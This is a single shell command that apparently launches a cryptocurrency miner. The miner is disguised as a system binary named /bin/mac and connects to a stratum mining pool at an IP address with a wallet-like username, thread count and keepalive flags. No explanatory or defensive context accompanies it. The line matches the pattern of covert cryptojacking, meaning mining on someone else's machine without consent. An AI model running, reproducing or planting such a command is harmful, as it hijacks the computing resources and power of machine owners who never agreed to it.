/bin/mac -o stratum+tcp://203.0.113.77:5555 -u 4ABC -p x -k -t 2
